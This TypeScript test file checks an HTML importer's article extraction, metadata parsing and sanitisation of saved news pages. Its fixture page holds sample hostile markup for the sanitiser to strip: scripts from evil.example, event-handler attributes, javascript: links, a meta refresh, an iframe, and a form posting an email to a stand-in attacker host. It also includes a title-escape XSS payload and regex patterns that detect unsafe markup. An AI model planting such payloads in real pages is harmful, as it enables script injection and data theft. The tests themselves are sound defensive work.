import { describe, expect, it } from 'vitest';
import { parseHtml } from '../../../main/importers/formats/html';
import { findUnsafeMarkup } from '../../../main/importers/formats/htmlSanitise';

const encode = (html: string) => new TextEncoder().encode(html);

const ARTICLE_PARAGRAPHS = [
  'Canada and Denmark signed an agreement on Tuesday to share radar data covering the Arctic approaches, officials said. The deal follows two years of negotiations between the two defence ministries.',
  'The radar stations will be modernised by 2028 at a cost of $4 billion, according to the Department of National Defence.',
  'Critics say the timeline is too slow given the pace of Russian and Chinese activity in the region, and that more money will be needed.',
  'A parliamentary committee will review the agreement in the spring, and its report is expected before the summer recess.',
];

/** A news page with everything a saved page drags along, and some hostile markup. */
const HOSTILE_PAGE = `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">
<title>Arctic radar deal signed | Northern Herald</title>
<meta property="og:title" content="Arctic radar deal signed">
<meta property="og:site_name" content="Northern Herald">
<meta property="og:url" content="https://herald.example/arctic-radar">
<meta property="og:image" content="https://cdn.example/share.jpg">
<meta property="article:published_time" content="2024-03-05T10:00:00-05:00">
<meta name="author" content="Jane Doe">
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://cdn.example/site.css">
<style>body { background: url(https://track.example/bg.gif) }</style>
<script>document.cookie = 'stolen'</script>
<script src="https://evil.example/x.js"></script>
</head>
<body onload="steal()">
<div class="cookie-banner" role="dialog">We use cookies to improve your experience. <button onclick="accept()">Accept all</button></div>
<nav><a href="/">Home</a> <a href="/politics">Politics</a> <a href="/world">World</a></nav>
<div class="ad-slot"><img src="https://ads.example/banner.gif" onerror="track()"> Advertisement</div>
<article>
<h1>Arctic radar deal signed</h1>
<p>${ARTICLE_PARAGRAPHS[0]}</p>
<p onclick="evil()" onmouseover="evil()">${ARTICLE_PARAGRAPHS[1]} <a href="javascript:alert(1)">Details</a> are in <a href=" JAVASCRIPT:alert(2)">the plan</a> and <a href="https://dnd.example/report">the report</a>.</p>
<figure><img src="https://img.example/radar.jpg" srcset="https://img.example/radar2x.jpg 2x"><figcaption>The radar station at Iqaluit. (AP Photo/John Smith)</figcaption></figure>
<p style="background-image: url('https://track.example/pixel.gif')">${ARTICLE_PARAGRAPHS[2]}</p>
<iframe src="https://evil.example/frame"></iframe>
<svg onload="evil()"><script>evil()</script><image href="https://evil.example/i.png"/></svg>
<object data="https://evil.example/flash.swf"></object>
<p>${ARTICLE_PARAGRAPHS[3]}</p>
<p>For the latest headlines, follow our Google News channel online or via the app.</p>
<form action="https://evil.example/collect"><input name="email" value="you@example.org"><button formaction="https://evil.example/x">Subscribe</button></form>
</article>
<aside class="related"><h3>Read more</h3><ul><li><a href="/a">Navy orders new submarines</a></li><li><a href="/b">Budget talks stall</a></li></ul></aside>
<div style="display:none">Hidden tracking text</div>
<footer>© 2024 Northern Herald. All rights reserved.</footer>
<!-- <script>evil()</script> -->
</body></html>`;

describe('parseHtml', () => {
  it('extracts the article text from the page chrome', () => {
    const parsed = parseHtml(encode(HOSTILE_PAGE), 'arctic.html');
    expect(parsed.body.split('\n\n')).toEqual(
      ARTICLE_PARAGRAPHS.map((p, i) => (i === 1 ? `${p} Details are in the plan and the report.` : p)),
    );
    expect(parsed.format).toBe('html');
    expect(parsed.pageStarts).toBeNull();
  });

  it('reads the metadata the page declares', () => {
    expect(parseHtml(encode(HOSTILE_PAGE), 'arctic.html')).toMatchObject({
      title: 'Arctic radar deal signed',
      outlet: 'Northern Herald',
      author: 'Jane Doe',
      publishedAt: '2024-03-05',
      url: 'https://herald.example/arctic-radar',
      language: 'en',
    });
  });

  it('stores as the original a sanitised page: no script, handler, remote reference or live link', () => {
    const { original } = parseHtml(encode(HOSTILE_PAGE), 'arctic.html');
    expect(original).not.toMatch(/<script|<style|<iframe|<object|<svg|<img|<link|<base|<form|<input|<button/i);
    expect(original).not.toMatch(/\son\w+\s*=/i);
    expect(original).not.toMatch(/javascript:|url\(|src=|srcset=|\shref=|action=|http-equiv="refresh"/i);
    expect(original).not.toMatch(/evil\.example|track\.example|ads\.example|cdn\.example|img\.example/);
    expect(findUnsafeMarkup(original)).toBeNull();
    // The link target survives as inert text; everything the page said is still there.
    expect(original).toContain('data-href="https://dnd.example/report"');
    for (const text of ['We use cookies', 'Navy orders new submarines', 'Google News', '(AP Photo/John Smith)']) {
      expect(original).toContain(text);
    }
    expect(original).toContain('<meta http-equiv="Content-Security-Policy" content="default-src \'none\'">');
  });

  it('escapes a title that tries to close its own element', () => {
    const page = `<html><head><title>&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;</title></head><body><p>${ARTICLE_PARAGRAPHS[0]}</p></body></html>`;
    const { original, title } = parseHtml(encode(page), 'x.html');
    expect(title).toBe('</title><img src=x onerror=alert(1)>');
    expect(original).toContain('<title>&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;</title>');
    expect(findUnsafeMarkup(original)).toBeNull();
  });

  it('reads citation_ tags, several authors and schema.org JSON-LD', () => {
    const page = `<html><head>
      <meta name="citation_title" content="Arctic Surveillance and Alliance Burden-Sharing">
      <meta name="citation_author" content="Jane Doe"><meta name="citation_author" content="John Roe">
      <meta name="citation_publication_date" content="2023/11/02">
      <meta name="citation_publisher" content="Northern Policy Institute">
      <script type="application/ld+json">{"@context":"https://schema.org","@graph":[{"@type":"WebSite","name":"x"},
        {"@type":"Report","headline":"Ignored when citation_title exists","url":"https://npi.example/arctic","inLanguage":"en-CA"}]}</script>
      </head><body><main><p>${ARTICLE_PARAGRAPHS.join('</p><p>')}</p></main></body></html>`;
    expect(parseHtml(encode(page), 'report.htm')).toMatchObject({
      title: 'Arctic Surveillance and Alliance Burden-Sharing',
      author: 'Jane Doe and John Roe',
      publishedAt: '2023-11-02',
      outlet: 'Northern Policy Institute',
      url: 'https://npi.example/arctic',
    });

    const ld = `<html><head><title>Radar - Herald</title><script type="application/ld+json">
      {"@type":"NewsArticle","headline":"Radar deal signed","datePublished":"2024-03-04T08:00:00Z",
       "author":[{"@type":"Person","name":"Jane Doe"}],"publisher":{"@type":"Organization","name":"The Herald"}}
      </script></head><body><p>${ARTICLE_PARAGRAPHS.join('</p><p>')}</p></body></html>`;
    expect(parseHtml(encode(ld), 'ld.html')).toMatchObject({
      title: 'Radar deal signed',
      author: 'Jane Doe',
      publishedAt: '2024-03-04',
      outlet: 'The Herald',
    });
  });

  it('detects French even when the page template declares English', () => {
    const page = `<html lang="en"><head><meta charset="windows-1252"><title>Accord sur le radar</title></head><body><article>
      <h1>Accord sur le radar</h1>
      <p>Le Canada et le Danemark ont signé mardi une entente sur le partage des données radar dans l'Arctique, selon des responsables du ministère.</p>
      <p>Les stations radar seront modernisées d'ici 2028, et le comité parlementaire doit étudier l'accord au printemps avec les deux ministres.</p>
      </article></body></html>`;
    const bytes = Uint8Array.from(Buffer.from(page, 'latin1'));
    const parsed = parseHtml(bytes, 'accord.html');
    expect(parsed.language).toBe('fr');
    expect(parsed.body).toContain('signé mardi une entente');
    expect(parsed.title).toBe('Accord sur le radar');
  });

  it('falls back to the visible page text when there is no article to find', () => {
    const parsed = parseHtml(
      encode(
        '<p>Call the embassy about the visa backlog.</p><ul><li>Ask about Seoul</li><li>Ask about Tokyo</li></ul>',
      ),
      'note.html',
    );
    expect(parsed.body).toBe('Call the embassy about the visa backlog.\n\n- Ask about Seoul\n\n- Ask about Tokyo');
  });
});

describe('parseHtml on pages as browsers save them', () => {
  const body = `<p>${ARTICLE_PARAGRAPHS[0]}</p><p>${ARTICLE_PARAGRAPHS[1]}</p>`;
  it.each([
    [
      'a "saved from" comment before the doctype',
      `<!-- saved from url=(0014)about:internet -->\n<!DOCTYPE html><html lang="en"><head><title>Radar deal</title></head><body>${body}</body></html>`,
    ],
    [
      'an XHTML page with an XML declaration',
      `<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "x"><html xmlns="http://www.w3.org/1999/xhtml"><head><title>Radar deal</title></head><body>${body}</body></html>`,
    ],
    ['a page without its <html> element', `<head><title>Radar deal</title></head><body>${body}</body>`],
  ])('%s', (_, page) => {
    const parsed = parseHtml(encode(page), 'saved.html');
    expect(parsed.title).toBe('Radar deal');
    expect(parsed.body).toBe(`${ARTICLE_PARAGRAPHS[0]}\n\n${ARTICLE_PARAGRAPHS[1]}`);
  });
});
